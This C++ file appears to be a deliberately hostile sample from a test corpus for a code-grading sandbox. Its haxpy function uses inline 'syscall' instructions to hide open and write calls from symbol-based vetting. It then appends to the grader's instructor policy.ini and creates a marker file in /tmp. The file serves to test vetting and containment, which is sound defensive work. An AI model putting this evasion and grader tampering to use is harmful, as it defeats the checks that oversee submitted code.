// CORPUS: hostile. Writes files with inline system call instructions, so
// that no forbidden function (open, write) shows in its symbols: appends a
// comment line to grader/instructor/policy.ini, looked for in the working
// directory and its parents, then beside the worker's executable
// (/proc/self/exe) and its parents, and creates /tmp/bwlab_raw_open_write.
// Computes nothing, so it earns no correctness points either way.
// Vetted, it is refused (a `syscall` instruction); with vetting bypassed
// (BWLAB_UNSAFE_SKIP_VET=1), only the workers' containment stops it.
#include <cstring>
#include <string>
#include "haxpy.h"

namespace {

__attribute__((noinline))  // out of line: the refusal names it at any -O level
long raw_syscall(long nr, long a = 0, long b = 0, long c = 0, long d = 0)
{
    long ret;
    register long r10 asm("r10") = d;
    asm volatile("syscall" : "=a"(ret) : "a"(nr), "D"(a), "S"(b), "d"(c), "r"(r10)
                 : "rcx", "r11", "memory");
    return ret;
}

// x86-64 Linux system call numbers and flags.
constexpr long SYS_WRITE = 1, SYS_CLOSE = 3, SYS_GETCWD = 79, SYS_READLINK = 89,
               SYS_OPENAT = 257, AT_FDCWD_RAW = -100, O_WRONLY_RAW = 01, O_CREAT_RAW = 0100,
               O_APPEND_RAW = 02000;

const char MARK[] = "\n# bwlab corpus raw_open_write: appended by a submission\n";

bool done = false;   // once per worker process

bool append(const std::string& path, long flags)
{
    long fd = raw_syscall(SYS_OPENAT, AT_FDCWD_RAW, (long)path.c_str(), flags, 0644);
    if (fd < 0)
        return false;
    long n = raw_syscall(SYS_WRITE, fd, (long)MARK, (long)std::strlen(MARK));
    raw_syscall(SYS_CLOSE, fd);
    return n > 0;
}

// A path from a system call that fills a buffer (getcwd, readlink), the
// buffer grown until the answer fits.
std::string ask_path(long nr, long first_arg, bool arg_is_path)
{
    for (std::string buf(256, '\0');; buf.resize(buf.size() * 2)) {
        long n = arg_is_path ? raw_syscall(nr, first_arg, (long)buf.data(), (long)buf.size())
                             : raw_syscall(nr, (long)buf.data(), (long)buf.size());
        if (n >= 0 && (size_t)n < buf.size())
            return arg_is_path ? buf.substr(0, (size_t)n) : std::string(buf.c_str());
        if ((n < 0 && n != -34 /* ERANGE */) || buf.size() > (1u << 20))
            return "";
    }
}

// Append to DIR/grader/instructor/policy.ini for DIR and each of its parents.
bool reach_policy(std::string dir)
{
    while (!dir.empty()) {
        if (append(dir + "/grader/instructor/policy.ini", O_WRONLY_RAW | O_APPEND_RAW))
            return true;
        dir.erase(dir.rfind('/'));
    }
    return false;
}

}  // namespace

void haxpy(int, float, const nv_bfloat16*, nv_bfloat16*)
{
    if (done)
        return;
    done = true;
    std::string exe = ask_path(SYS_READLINK, (long)"/proc/self/exe", true);
    if (!reach_policy(ask_path(SYS_GETCWD, 0, false)) && !exe.empty())
        reach_policy(exe.substr(0, exe.rfind('/')));
    append("/tmp/bwlab_raw_open_write", O_WRONLY_RAW | O_CREAT_RAW | O_APPEND_RAW);
}
